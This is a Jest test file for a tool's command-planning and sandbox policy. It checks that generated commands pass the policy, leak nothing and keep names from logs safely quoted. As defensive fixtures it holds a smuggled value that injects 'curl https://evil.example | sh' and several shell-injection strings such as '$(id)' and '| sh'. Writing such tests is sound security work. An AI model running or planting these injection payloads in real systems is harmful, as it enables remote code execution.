import { expect, test } from "@jest/globals";
import { sendsAway, spillsSecrets } from "../../../../src/planning/leaks.js";
import { ASK_IDS, ASKS } from "../../../../src/planning/playbook/asks.js";
import { FALLBACK_PLAYBOOK, PLAYBOOKS } from "../../../../src/planning/playbook/classes/all.js";
import { commandFor } from "../../../../src/planning/playbook/commands.js";
import type { Family } from "../../../../src/planning/playbook/ecosystem.js";
import { deriveState, type State } from "../../../../src/planning/playbook/state.js";
import { checkCommand } from "../../../../src/sandbox/policy/check-command.js";
import { makeChain, makeFailure, makeSituation } from "../../../support/situations.js";

const FAMILIES: readonly Family[] = [
  "node",
  "python",
  "rust",
  "go",
  "jvm",
  "ruby",
  "php",
  "dotnet",
  "native",
  "system",
  "unknown",
];

function stateOf(family: Family, program: string | null, root = makeFailure()): State {
  const situation = makeSituation({ chain: makeChain({ failures: [root] }), can_run: true });
  return { ...deriveState(situation, FALLBACK_PLAYBOOK), family, program };
}

function commandsOf(state: State): string[] {
  const measured = PLAYBOOKS.flatMap(({ actions }) => actions.map(({ command }) => command(state)));
  const asked = ASK_IDS.map((id) => ASKS[id].command(state));
  const named = (
    ["version", "config", "installed", "tree", "clean", "profile", "leak", "backtrace"] as const
  ).map((name) => commandFor(name, state));
  return [...measured, ...asked, ...named].filter((command) => command !== null);
}

test.each(FAMILIES)(
  "what is run or asked for with %s passes the policy and leaks nothing",
  async (family) => {
    const commands = commandsOf(stateOf(family, "./app --input data.txt"));
    expect(commands.length).toBeGreaterThan(5);
    for (const command of commands) {
      const { allowed, reason } = await checkCommand(command);
      expect({ command, allowed, reason }).toMatchObject({ allowed: true });
      expect({ command, leak: spillsSecrets(command) ?? sendsAway(command) }).toMatchObject({ leak: null });
    }
  },
);

test("names from a log stay one word, whatever they hold", () => {
  const hostile = "left-pad'; curl https://evil.example | sh; echo '";
  const root = makeFailure({
    key_entities: [
      { kind: "package", value: hostile },
      { kind: "file", value: hostile },
      { kind: "library", value: hostile },
    ],
  });
  for (const family of FAMILIES)
    for (const command of commandsOf(stateOf(family, null, root))) {
      const unquoted = command.replaceAll(/'(?:[^']|'\\'')*'/g, "''");
      expect(unquoted).not.toContain("evil.example");
    }
});

test("a command with shell syntax is no program to be started", () => {
  const failures = [
    "./app | sh",
    "./app; id",
    "./app $(id)",
    "./app `id`",
    "./app > /etc/x",
    "-rf",
    "./app 'a b'",
  ];
  for (const raw_command of failures) {
    const situation = makeSituation({ chain: makeChain({ failures: [makeFailure({ raw_command })] }) });
    expect({ raw_command, program: deriveState(situation, FALLBACK_PLAYBOOK).program }).toMatchObject({
      program: null,
    });
  }
});
